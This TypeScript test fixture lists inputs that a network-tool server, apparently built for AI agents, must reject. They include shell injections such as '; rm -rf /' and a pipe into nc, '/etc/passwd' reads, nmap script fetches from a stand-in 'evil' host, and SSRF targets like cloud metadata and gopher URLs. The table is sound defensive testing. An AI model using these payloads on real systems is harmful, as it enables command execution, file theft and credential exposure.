import { builtinTools } from "../../src/tools/builtins.js"
import type { ShimCall } from "../support/shims.js"

/**
 * The black-box attack table shared by the MCP and REST suites: every call
 * here must be refused with the given error before any process starts.
 * The servers under attack allow 127.0.0.0/8 only, so no host name is ever
 * looked up (names outside an allowed suffix are refused unresolved).
 */

export const ALLOWED_TARGETS = "127.0.0.0/8"

export interface Attack {
  readonly name: string
  readonly tool: string
  readonly input: unknown
  readonly tag: string
}

const nmap = (name: string, input: Record<string, unknown>, tag: string): Attack => ({ name, tool: "NmapTool", input, tag })

const targetAttacks: ReadonlyArray<[string, string]> = [
  ["or-chained command", "127.0.0.1||id"],
  ["semicolon command", "127.0.0.1;id"],
  ["command substitution", "$(id)"],
  ["backticks", "`id`"],
  ["newline", "127.0.0.1\nid"],
  ["carriage return", "127.0.0.1\r\n-iL /etc/passwd"],
  ["NUL byte", "127.0.0.1\u0000"],
  ["two targets", "127.0.0.1 8.8.8.8"],
  ["comma list", "127.0.0.1,8.8.8.8"],
  ["nmap range", "127.0.0.1-5"],
  ["option as target", "-iL/etc/passwd"],
  ["script option as target", "--script=/tmp/x.nse"],
  ["decimal IPv4", "2130706433"],
  ["hex IPv4", "0x7f000001"],
  ["short IPv4", "127.1"],
  ["octal IPv4", "0177.0.0.1"],
  ["zero-padded IPv4", "127.000.000.001"],
  ["fullwidth digits", "\uff11\uff12\uff17.0.0.1"],
  ["fullwidth dot", "127\uff0e0.0.1"],
  ["cyrillic look-alike name", "l\u043ecalhost"],
  ["cloud metadata", "169.254.169.254"],
  ["public address", "8.8.8.8"],
  ["public network", "1.1.1.0/28"],
  ["the whole internet", "0.0.0.0/0"],
  ["private range not allowed here", "10.0.0.1"],
  ["wildcard", "127.0.0.*"],
  ["URL with userinfo", "http://127.0.0.1@8.8.8.8/"],
  ["userinfo", "user@127.0.0.1"],
  ["host name", "example.com"],
  ["localhost by name", "localhost"],
  ["IPv6 loopback (IPv6 off)", "::1"],
  ["IPv4-mapped IPv6", "::ffff:8.8.8.8"],
  ["target with port", "127.0.0.1:22"],
  ["unknown CIDR", "127.0.0.0/33"],
  ["broadcast address of the allowed network", "127.255.255.255"],
  ["network address of the allowed network", "127.0.0.0"],
  ["IPv4-translated IPv6", "::ffff:0:127.0.0.1"],
  ["NAT64 of the loopback", "64:ff9b::127.0.0.1"],
  ["AWS metadata over IPv6", "fd00:ec2::254"]
]

const argAttacks: ReadonlyArray<[string, Record<string, unknown>, string]> = [
  ["shell sequence", { extra_args: "; rm -rf /" }, "ArgumentRejected"],
  ["and-chain", { extra_args: "-sV && id" }, "ArgumentRejected"],
  ["pipe", { extra_args: "-sV | nc 127.0.0.1 4444" }, "ArgumentRejected"],
  ["command substitution", { extra_args: "-p $(id)" }, "ArgumentRejected"],
  ["newline", { extra_args: "-sV\nid" }, "ArgumentRejected"],
  ["redirect", { extra_args: "-sV > /tmp/x" }, "ArgumentRejected"],
  ["quotes", { extra_args: "-sV 'x'" }, "ArgumentRejected"],
  ["en dash flag", { extra_args: "\u2013sV" }, "ArgumentRejected"],
  ["fullwidth hyphen", { extra_args: "\uff0dsV" }, "ArgumentRejected"],
  ["input list", { extra_args: "-iL /etc/passwd" }, "ArgumentRejected"],
  ["glued input list", { extra_args: "-iL/etc/passwd" }, "ArgumentRejected"],
  ["random targets", { extra_args: "-iR 100" }, "ArgumentRejected"],
  ["script file", { extra_args: "--script=/tmp/x.nse" }, "ArgumentRejected"],
  ["script file, split", { extra_args: "--script /tmp/x.nse" }, "ArgumentRejected"],
  ["script URL", { extra_args: "--script http://evil/x.nse" }, "ArgumentRejected"],
  ["all scripts", { extra_args: "--script all" }, "ArgumentRejected"],
  ["script args", { extra_args: "--script-args user=root" }, "ArgumentRejected"],
  ["normal output file", { extra_args: "-oN /tmp/x" }, "ArgumentRejected"],
  ["glued output file", { extra_args: "-oN/tmp/x" }, "ArgumentRejected"],
  ["second XML output", { extra_args: "-oX -" }, "ArgumentRejected"],
  ["data dir", { extra_args: "--datadir /tmp" }, "ArgumentRejected"],
  ["data dir, glued", { extra_args: "--datadir=/tmp" }, "ArgumentRejected"],
  ["data dir, abbreviated", { extra_args: "--datad /tmp" }, "ArgumentRejected"],
  ["service db", { extra_args: "--servicedb /etc/passwd" }, "ArgumentRejected"],
  ["resume file", { extra_args: "--resume /tmp/x" }, "ArgumentRejected"],
  ["stylesheet", { extra_args: "--stylesheet http://evil/x.xsl" }, "ArgumentRejected"],
  ["proxies", { extra_args: "--proxies http://1.2.3.4:8080" }, "ArgumentRejected"],
  ["interactive", { extra_args: "--interactive" }, "ArgumentRejected"],
  ["extra positional target", { extra_args: "-sV 8.8.8.8" }, "ArgumentRejected"],
  ["target after --", { extra_args: "-sV -- 8.8.8.8" }, "ArgumentRejected"],
  ["spoofed source", { extra_args: "-S 10.0.0.9" }, "ArgumentRejected"],
  ["array: metacharacter token", { args: ["-sV", "; id"] }, "ArgumentRejected"],
  ["array: input list", { args: ["-iL", "/etc/passwd"] }, "ArgumentRejected"],
  ["array: script file", { args: ["--script=/tmp/x.nse"] }, "ArgumentRejected"],
  ["array: extra target", { args: ["-p", "22", "8.8.8.8"] }, "ArgumentRejected"],
  ["array: token with space", { args: ["-sV -oN /tmp/x"] }, "ArgumentRejected"],
  ["array: newline token", { args: ["-sV\nid"] }, "ArgumentRejected"],
  ["intrusive without allow_intrusive", { extra_args: "-A" }, "IntrusiveNotAllowed"],
  ["intrusive script", { extra_args: "--script brute" }, "IntrusiveNotAllowed"],
  ["gated script filed as default and safe", { extra_args: "--script ftp-anon" }, "IntrusiveNotAllowed"],
  ["gated script filed as safe", { extra_args: "--script ssl-heartbleed" }, "IntrusiveNotAllowed"],
  ["prototype name as a script", { extra_args: "--script constructor" }, "ArgumentRejected"],
  ["prototype name as a category", { extra_args: "--script __proto__" }, "ArgumentRejected"],
  ["prototype method as a script", { args: ["--script", "toString"] }, "ArgumentRejected"],
  ["prototype name as a template", { template: "constructor" }, "InvalidInput"],
  ["prototype key as a template", { template: "__proto__" }, "InvalidInput"],
  ["data dir, single dash", { extra_args: "-datadir /tmp" }, "ArgumentRejected"],
  ["negative-looking number", { args: ["--max-retries", "-0"] }, "ArgumentRejected"],
  ["args and extra_args at once", { args: ["-sV"], extra_args: "-sT" }, "InvalidInput"],
  ["unknown field", { shell: "id" }, "InvalidInput"],
  ["unknown template", { template: "../../etc/passwd" }, "InvalidInput"],
  ["non-string arg", { args: ["-p", 22] }, "InvalidInput"],
  ["huge argument array", { args: Array.from({ length: 1500 }, () => "-sV") }, "InvalidInput"],
  ["huge single argument", { extra_args: `-p ${"1,".repeat(3000)}1` }, "InvalidInput"],
  ["many ports under the size limit", { extra_args: `-p ${Array.from({ length: 400 }, (_, i) => i + 1).join(",")}` }, "ArgumentRejected"]
]

export const attacks: ReadonlyArray<Attack> = [
  ...targetAttacks.map(([name, target]) => nmap(`target: ${name}`, { target }, "TargetRejected")),
  ...argAttacks.map(([name, extra, tag]) => nmap(`args: ${name}`, { target: "127.0.0.1", ...extra }, tag)),
  nmap("input: target of the wrong type", { target: ["127.0.0.1", "8.8.8.8"] }, "InvalidInput"),
  nmap("input: no target", { extra_args: "-sV" }, "InvalidInput"),
  nmap("input: empty target", { target: "" }, "InvalidInput"),
  nmap("input: oversized target", { target: `${"a".repeat(300)}.example` }, "InvalidInput"),
  { name: "tool: path traversal in the name", tool: "../NmapTool", input: { target: "127.0.0.1" }, tag: "ToolNotFound" },
  { name: "tool: unknown", tool: "bash", input: { target: "127.0.0.1" }, tag: "ToolNotFound" },
  ...["constructor", "__proto__", "toString", "hasOwnProperty"].map((tool): Attack => ({
    name: `tool: prototype name ${tool}`,
    tool,
    input: { target: "127.0.0.1" },
    tag: "ToolNotFound"
  })),
  ...[
    ["hex host", "http://0x7f.1/"],
    ["short host", "http://127.1:8080/"],
    ["integer host", "http://2130706433/"],
    ["ideographic full stop", "http://127\u30020.0.1/"],
    ["zero-width space", "http://127.0.0.1\u200b/"],
    ["percent-encoded host", "http://%31%32%37.0.0.1/"],
    ["backslash authority", "http://127.0.0.1\\@8.8.8.8/"],
    ["leading-zero port", "http://127.0.0.1:080/"]
  ].map(([label, target]): Attack => ({ name: `http probe: ${label}`, tool: "HttpProbeTool", input: { target }, tag: "TargetRejected" })),
  { name: "tls probe: hex host", tool: "TlsProbeTool", input: { target: "0x7f.1:443" }, tag: "TargetRejected" },
  { name: "http probe: userinfo smuggling", tool: "HttpProbeTool", input: { target: "http://127.0.0.1@8.8.8.8/" }, tag: "TargetRejected" },
  {
    name: "http probe: metadata service",
    tool: "HttpProbeTool",
    input: { target: "http://169.254.169.254/latest/meta-data/" },
    tag: "TargetRejected"
  },
  { name: "http probe: file URL", tool: "HttpProbeTool", input: { target: "file:///etc/passwd" }, tag: "TargetRejected" },
  { name: "http probe: gopher URL", tool: "HttpProbeTool", input: { target: "gopher://127.0.0.1:25/_HELO" }, tag: "TargetRejected" },
  { name: "ping: public address", tool: "PingTool", input: { target: "8.8.8.8" }, tag: "TargetRejected" },
  { name: "dig: server smuggled in target", tool: "DigTool", input: { target: "@8.8.8.8" }, tag: "TargetRejected" },
  { name: "masscan: intrusive tool", tool: "MasscanTool", input: { target: "127.0.0.1" }, tag: "IntrusiveNotAllowed" }
]

/** Calls that must run, each with the exact argv the tool must receive. */
export interface Allowed {
  readonly tool: string
  readonly binary: string
  readonly input: Record<string, unknown>
  readonly argv: ReadonlyArray<string>
}

const spec = (name: string) => {
  const found = builtinTools.find((tool) => tool.name === name)
  if (found === undefined) throw new Error(`no built-in tool ${name}`)
  return found
}

const allowed = (tool: string, input: Record<string, unknown>, tokens: ReadonlyArray<string>, pinned: string): Allowed => {
  const s = spec(tool)
  return { tool, binary: s.binary, input, argv: [...s.fixedArgs, ...tokens, ...s.target.toArgs(pinned, String(input["target"]))] }
}

// Connect scans and version detection need no raw sockets, so the argv is the same with or without root.
export const allowedCalls: ReadonlyArray<Allowed> = [
  allowed("NmapTool", { target: "127.0.0.1", extra_args: "-sV -p 22" }, ["-sV", "-p", "22"], "127.0.0.1"),
  allowed("NmapTool", { target: "127.0.0.0/30", args: ["-sT", "--top-ports", "10"] }, ["-sT", "--top-ports", "10"], "127.0.0.0/30"),
  allowed("NmapTool", { target: "127.0.0.1", template: "quick" }, ["-T4", "-F"], "127.0.0.1"),
  allowed("PingTool", { target: "127.0.0.1" }, [], "127.0.0.1")
]

export const shimmedBinaries = [...new Set(builtinTools.map((tool) => tool.binary))]

/**
 * What the shims may have seen: start-up version probes and exactly the
 * allowed calls, in any order, each once per time it was made.
 */
export const unexpectedCalls = (calls: ReadonlyArray<ShimCall>, made: ReadonlyArray<Allowed>): ReadonlyArray<ShimCall> => {
  const versionProbes = new Set(builtinTools.map((tool) => JSON.stringify([tool.binary, tool.versionArgs])))
  const remaining = made.map((call) => JSON.stringify([call.binary, call.argv]))
  return calls.filter((call) => {
    const key = JSON.stringify([call.tool, call.argv])
    if (versionProbes.has(key)) return false
    const index = remaining.indexOf(key)
    if (index === -1) return true
    remaining.splice(index, 1)
    return false
  })
}

/** Every token a shim may receive: server-fixed arguments, version flags, the allowed calls' tokens and targets. */
export const permittedTokens = (made: ReadonlyArray<Allowed>): ReadonlySet<string> =>
  new Set([
    ...builtinTools.flatMap((tool) => [...tool.fixedArgs, ...tool.versionArgs]),
    ...made.flatMap((call) => call.argv)
  ])
